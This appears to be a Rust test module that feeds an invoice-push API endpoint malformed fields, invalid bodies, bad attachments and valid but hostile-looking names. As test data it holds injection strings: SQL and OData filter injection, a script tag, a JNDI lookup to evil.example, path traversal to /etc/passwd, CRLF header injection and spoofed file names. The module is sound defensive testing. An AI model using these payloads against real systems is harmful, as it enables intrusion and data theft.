//! `POST …/invoices`: every field of a valid invoice made missing, mistyped, too long, blank or malformed; bodies
//! that are not an invoice; valid names that look hostile, which must be stored exactly; and attachments that are
//! not a PDF, too many, too large or badly encoded.

use super::*;

/// Required string fields of the invoice with their length limits.
pub(super) const INVOICE_STRINGS: &[(&str, usize, bool)] = &[
    ("id", 128, true),
    ("reference", 60, true),
    ("name", 255, true),
    ("project.number", 255, true),
    ("project.name", 255, true),
    ("company.id", 128, true),
    ("company.name", 255, true),
    ("company.address", 255, false),
    ("company.city", 255, false),
    ("contact.first_name", 50, false),
    ("contact.last_name", 50, false),
    ("contact.email", 254, true),
    // "1 - {name}" must fit 60 characters.
    ("lines[0].name", 56, true),
    ("lines[0].description", 1000, false),
    ("lines[0].item_code", 60, false),
    ("lines[0].tax_category", 60, false),
];

/// Required values and objects that are not strings.
const REQUIRED_OTHERS: &[&str] = &[
    "invoice_date",
    "lines[0].number",
    "lines[0].amount",
    "lines",
    "project",
    "company",
    "contact",
];

/// Each string field set to each of these (JSON).
const WRONG_TYPES: &[(&str, &str)] = &[
    ("a number", "12345"),
    ("a boolean", "true"),
    ("an array", r#"["x"]"#),
    ("an object", r#"{"x":1}"#),
];

/// Values of the wrong type or range for the fields that are not strings (JSON).
const MISTYPED: &[(&str, &[&str])] = &[
    ("credit", &[r#""true""#, "1", "[]", "{}"]),
    ("invoice_date", &["20251001", "true", r#"["2025-10-01"]"#]),
    (
        "lines[0].amount",
        &["100.0", "100", "true", r#"["100.00"]"#],
    ),
    (
        "lines[0].number",
        &[r#""1""#, "true", "1.5", "-1", "0", "4294967296", "[1]"],
    ),
    ("lines", &[r#""x""#, "5", "{}"]),
    ("lines[0]", &["5", r#""line""#, "null"]),
    ("period", &[r#""2025-09""#, "5", "[]"]),
    ("period.from", &["20250901", "true"]),
    ("project", &[r#""P-1""#, "5", "[]"]),
    ("company", &[r#""Acme""#, "5", "[]"]),
    ("contact", &[r#""jane@acme.example""#, "5", "[]"]),
];

/// Fields sent with 100,000 characters.
const HUGE: &[&str] = &[
    "name",
    "company.name",
    "reference",
    "lines[0].description",
    "id",
];

/// Fields sent with each control character.
const CONTROL_FIELDS: &[&str] = &[
    "name",
    "company.name",
    "lines[0].name",
    "reference",
    "project.name",
];
const CONTROL_CHARS: &[(&str, &str)] = &[
    ("NUL", "a\u{0}b"),
    ("line break", "a\nb"),
    ("escape", "a\u{1b}[31mb"),
    ("DEL", "a\u{7f}b"),
];

const BAD_DATES: &[&str] = &[
    "2025-13-01",
    "2025-02-30",
    "01-10-2025",
    "2025/10/01",
    "2025-10-1",
    "1899-12-31",
    "10000-01-01",
    "2025-10-01T00:00:00Z",
    "tomorrow",
    "２０２５-10-01",
    "",
    "-2025-10-01",
    "2025-00-10",
    "2025-10-00",
];

/// (what, field, value as JSON or `None` to remove it, field at fault).
const BAD_PERIODS: &[(&str, &str, Option<&str>, &str)] = &[
    (
        "period.from 2025-02-30",
        "period.from",
        Some(r#""2025-02-30""#),
        "period.from",
    ),
    (
        "period.until \"x\"",
        "period.until",
        Some(r#""x""#),
        "period.until",
    ),
    ("period.until missing", "period.until", None, "period.until"),
    (
        "period ends before it starts",
        "period",
        Some(r#"{"from":"2025-09-30","until":"2025-09-01"}"#),
        "period",
    ),
];

const BAD_AMOUNTS: &[&str] = &[
    "1e5",
    "NaN",
    "Infinity",
    "12,50",
    "0x10",
    "",
    "  ",
    "1.005",
    "+5",
    "1 000",
    "1000000000000",
    "--1",
    "١٢٣",
    "100.00 EUR",
    "€100",
    ".5",
    "5.",
];

const BAD_EMAILS: &[&str] = &[
    "not-an-email",
    "a@",
    "@b.example",
    "a b@c.example",
    "a@b@c.example",
    "jane@acme.example\u{0}",
    "jane@.example",
    "jane@acme..example",
    "jane@-acme.example",
    "jane@acme",
];

/// Invoice ids (part of the storage key).
const BAD_IDS: &[&str] = &[
    "inv 1",
    "inv/1",
    "inv'1",
    "inv;DROP TABLE x",
    "inv#1",
    "ünï",
    "inv\u{0}",
    "../x",
    "inv%27",
    "inv\"1",
];

/// Bodies that are not JSON, or not an object.
const BAD_JSON: &[(&str, &[u8])] = &[
    ("truncated JSON", b"{"),
    ("JSON with a missing value", br#"{"id":}"#),
    ("single-quoted JSON", b"{'id':'x'}"),
    ("NaN literal", b"NaN"),
    ("top-level array", b"[1,2]"),
    ("top-level string", br#""invoice""#),
    ("null", b"null"),
    ("a number", b"42"),
    ("empty body", b""),
    ("whitespace body", b"   \n "),
    ("not UTF-8", &[0xff, 0xfe, b'{', b'}']),
];

/// Items that must not resolve (an injectable filter would find one).
const UNKNOWN_ITEMS: &[&str] = &[
    "NOPE",
    "CONSULT' or Code ne '",
    "x' or 1 eq 1 or Code eq 'y",
    "LICENSE",
    "OLDITEM",
];

/// Valid company names that look hostile: accepted and stored exactly, one account per name.
const HOSTILE_NAMES: &[&str] = &[
    "O'Brien & Zonen B.V.",
    "x' or Name ne 'y",
    "Robert'); DROP TABLE Accounts;--",
    "<script>alert(1)</script> B.V.",
    "${jndi:ldap://evil.example/a}",
    "Ünïcødé GmbH 株式会社 🚀",
    "\u{202e}gnp.exe Holding",
    "%27 or 1 eq 1 %00",
    "back\\slash \"quoted\" Co",
    "Zero\u{200b}Width Ltd",
];

pub(super) fn cases(ids: &mut Ids) -> Vec<Case> {
    let base = |ids: &mut Ids| base_invoice(ids.next());
    let mut c = Cases::new(Group::Push, push_path(), base, ids);
    let required = || INVOICE_STRINGS.iter().filter(|(_, _, req)| *req);

    // Missing required fields and objects.
    for (field, _, _) in required() {
        c.refuse(format!("missing {field}"), field, None);
        c.refuse(format!("{field} = null"), field, Some(Value::Null));
    }
    for field in REQUIRED_OTHERS {
        c.refuse(format!("missing {field}"), field, None);
    }
    // Wrong types.
    for (field, _, _) in INVOICE_STRINGS {
        for (kind, v) in WRONG_TYPES {
            c.refuse(format!("{field} is {kind}"), field, Some(lit(v)));
        }
    }
    c.refuse_literals(MISTYPED);
    // Huge strings.
    for (field, max, _) in INVOICE_STRINGS {
        let over = if *field == "contact.email" {
            format!("{}@x.example", "a".repeat(*max))
        } else {
            "A".repeat(max + 1)
        };
        let what = format!("{field}: {} characters", over.chars().count());
        c.refuse(what, field, Some(json!(over)));
    }
    for field in HUGE {
        let what = format!("{field}: 100,000 characters");
        c.refuse(what, field, Some(json!("Z".repeat(100_000))));
    }
    // 6 MB: over a push's body limit (made for attachments), refused before it is parsed, naming them.
    let too_large = Expect::Reject {
        field: Some("attachments".into()),
        status: Some(413),
    };
    let huge = Some(json!("é".repeat(3_000_000)));
    c.set("name: 3,000,000 characters", "name", huge, too_large);
    // 2 MB: under it, refused for its length.
    let long = Some(json!("é".repeat(1_000_000)));
    c.refuse("name: 1,000,000 characters", "name", long);
    // Blank required strings.
    for (field, _, _) in required().filter(|(f, _, _)| *f != "contact.email") {
        c.refuse(format!("{field} empty"), field, Some(json!("")));
        c.refuse(format!("{field} blank"), field, Some(json!("   ")));
    }
    for field in CONTROL_FIELDS {
        for (kind, s) in CONTROL_CHARS {
            c.refuse(format!("{field} with {kind}"), field, Some(json!(s)));
        }
    }
    c.refuse_texts("invoice_date", "invoice_date", BAD_DATES);
    for (what, field, value, at_fault) in BAD_PERIODS {
        c.set(*what, field, value.map(lit), reject(at_fault));
    }
    c.refuse_texts("amount", "lines[0].amount", BAD_AMOUNTS);
    let negative = Some(json!("-100.00"));
    c.set(
        "negative amount on an invoice",
        "lines[0].amount",
        negative,
        reject("credit"),
    );
    c.refuse(
        "credit note with a positive total",
        "credit",
        Some(json!(true)),
    );
    let mut body = c.base();
    let line = body["lines"][0].clone();
    body["lines"] = json!([line.clone(), line]);
    c.body("two lines numbered 1", &body, reject("lines"));
    c.refuse("no lines", "lines", Some(json!([])));
    let lines: Vec<Value> = (1..=501)
        .map(|i| json!({"number": i, "name": "x", "amount": "1.00"}))
        .collect();
    c.refuse("501 lines", "lines", Some(Value::Array(lines)));
    c.refuse_texts("email", "contact.email", BAD_EMAILS);
    c.refuse_texts("id", "id", BAD_IDS);
    invalid_bodies(&mut c);
    for code in UNKNOWN_ITEMS {
        let what = format!("line item_code {code:?}");
        c.set(what, "lines[0].item_code", Some(json!(code)), reject_any());
    }
    hostile_names(&mut c);
    attachments(&mut c);
    c.finish()
}

/// Attachments that are not a usable PDF, too many or too large: a 400/413 naming the field. File names with path
/// separators or control characters are sanitised, not refused.
fn attachments(c: &mut Cases<'_>) {
    use testkit::pdf::{base64, pdf_of_size, specification_pdf};
    let pdf = base64(&specification_pdf(&["hostile"]));
    let file = |name: &str, b64: &str| json!({"file_name": name, "content_type": "application/pdf", "content_base64": b64});
    let content = "attachments[0].content_base64";
    let refused: Vec<(&str, Value, &str)> = vec![
        (
            "a ZIP file named .pdf",
            json!([file("spec.pdf", &base64(b"PK\x03\x04zip"))]),
            content,
        ),
        ("an empty file", json!([file("spec.pdf", "")]), content),
        (
            "HTML with a PDF name",
            json!([file("spec.pdf", &base64(b"<html>%PDF-1.4</html>"))]),
            content,
        ),
        (
            "base64 with a bad character",
            json!([file("spec.pdf", &format!("{pdf}!"))]),
            content,
        ),
        (
            "base64url alphabet",
            json!([file("spec.pdf", "JVBERi0x-_")]),
            content,
        ),
        (
            "content_base64 a number",
            json!([{"file_name": "a.pdf", "content_base64": 5}]),
            content,
        ),
        (
            "content_base64 missing",
            json!([{"file_name": "a.pdf"}]),
            content,
        ),
        (
            "content_type image/png",
            json!([{"file_name": "a.pdf", "content_type": "image/png", "content_base64": pdf}]),
            "attachments[0].content_type",
        ),
        (
            "file_name missing",
            json!([{"content_base64": pdf}]),
            "attachments[0].file_name",
        ),
        (
            "file_name only a path",
            json!([file("../../", &pdf)]),
            "attachments[0].file_name",
        ),
        (
            "file_name only dots and blanks",
            json!([file(" . .. ", &pdf)]),
            "attachments[0].file_name",
        ),
        (
            "6 files",
            Value::Array((0..6).map(|i| file(&format!("{i}.pdf"), &pdf)).collect()),
            "attachments",
        ),
        (
            "attachments an object",
            json!({"file_name": "a.pdf"}),
            "attachments",
        ),
        ("attachments a string", json!(pdf), "attachments"),
        (
            "an attachment that is a string",
            json!([pdf]),
            "attachments[0]",
        ),
    ];
    for (what, value, field) in refused {
        c.set(
            format!("attachments: {what}"),
            "attachments",
            Some(value),
            reject(field),
        );
    }
    // Over 4 MB decoded but under the body limit: the parser's 413.
    let big = base64(&pdf_of_size(&["big"], 4_400_000));
    let too_large = Expect::Reject {
        field: Some("attachments".into()),
        status: Some(413),
    };
    c.set(
        "attachments: 4.4 MB",
        "attachments",
        Some(json!([file("big.pdf", &big)])),
        too_large,
    );
    let halves = base64(&pdf_of_size(&["half"], 2_100_000));
    let too_large = Expect::Reject {
        field: Some("attachments".into()),
        status: Some(413),
    };
    let two = json!([file("a.pdf", &halves), file("b.pdf", &halves)]);
    c.set(
        "attachments: two of 2.1 MB",
        "attachments",
        Some(two),
        too_large,
    );
    c.set(
        "attachments: two files with one name (numbered)",
        "attachments",
        Some(json!([file("a.pdf", &pdf), file("dir/A.PDF", &pdf)])),
        Expect::Accept(None),
    );
    // Hostile names: sanitised to their last segment without control characters, and accepted.
    for name in [
        "../../etc/passwd",
        "C:\\Windows\\system32\\spec.pdf",
        "spec\u{0}.pdf",
        "spec\r\nX-Injected: 1.pdf",
        "<script>.pdf",
        "\u{202e}fdp.exe",
        "spec.pdf.exe",
    ] {
        c.set(
            format!("attachments: file_name {name:?}"),
            "attachments",
            Some(json!([file(name, &pdf)])),
            Expect::Accept(None),
        );
    }
}

/// Invalid JSON and wrong content.
fn invalid_bodies(c: &mut Cases<'_>) {
    const JSON: &str = "application/json";
    c.bad_json(BAD_JSON);
    let valid = c.base().to_string();
    let unclosed = &valid[..valid.len() - 1];
    let refused = [
        ("trailing comma", format!("{unclosed},}}"), JSON),
        ("100,000 nested arrays", "[".repeat(100_000), JSON),
        ("valid JSON then garbage", format!("{valid} trailing"), JSON),
        (
            "XML body",
            "<invoice id=\"1\"/>".to_owned(),
            "application/xml",
        ),
        (
            "form body",
            "id=1&name=x".to_owned(),
            "application/x-www-form-urlencoded",
        ),
    ];
    for (what, body, content_type) in refused {
        c.raw(what, body.into_bytes(), content_type, reject("body"));
    }
    // Readable as an invoice by a lenient parser: either answer is right.
    let lenient = [
        (
            "duplicate key (second id invalid)",
            duplicate_id(&c.base()),
            JSON,
        ),
        (
            "UTF-8 BOM before the JSON",
            format!("\u{feff}{}", c.base()),
            JSON,
        ),
        (
            "valid JSON sent as text/plain",
            c.base().to_string(),
            "text/plain",
        ),
    ];
    for (what, body, content_type) in lenient {
        c.raw(what, body.into_bytes(), content_type, Expect::Either);
    }
}

/// The invoice with a second, invalid `id` key at the end.
fn duplicate_id(invoice: &Value) -> String {
    let text = invoice.to_string();
    format!("{},\"id\":\"inv dup\"}}", &text[..text.len() - 1])
}

/// Each hostile name pushed for two PSA companies: accepted, stored exactly, one Exact account.
fn hostile_names(c: &mut Cases<'_>) {
    for (i, name) in HOSTILE_NAMES.iter().enumerate() {
        let mut a = c.base();
        a["company"]["id"] = json!(format!("cmp_acc_{i}_a"));
        a["company"]["name"] = json!(name);
        a["contact"]["email"] = json!(format!("ap{i}@hostile.example"));
        let mut b = c.base();
        b["company"]["id"] = json!(if i == 1 {
            "x' or 1 eq 1".to_owned()
        } else {
            format!("cmp_acc_{i}_b")
        });
        b["company"]["name"] = json!(name);
        b["contact"]["email"] = json!(format!("ap{i}@hostile.example"));
        if i == 2 {
            a["reference"] = json!("REF' or YourRef ne '");
            a["lines"][0]["name"] = json!("Consult'ancy <b>bold</b>");
            a["project"]["name"] = json!("P'; DROP TABLE projects; --");
        }
        let references = vec![
            a["reference"].as_str().unwrap_or("").to_owned(),
            b["reference"].as_str().unwrap_or("").to_owned(),
        ];
        let what = format!("company name {name:?} (pushed for two PSA companies)");
        let verify = Verify {
            company_name: (*name).to_owned(),
            references,
        };
        c.body(what, &a, Expect::Accept(Some(verify))).follow_up = Some(b);
    }
}
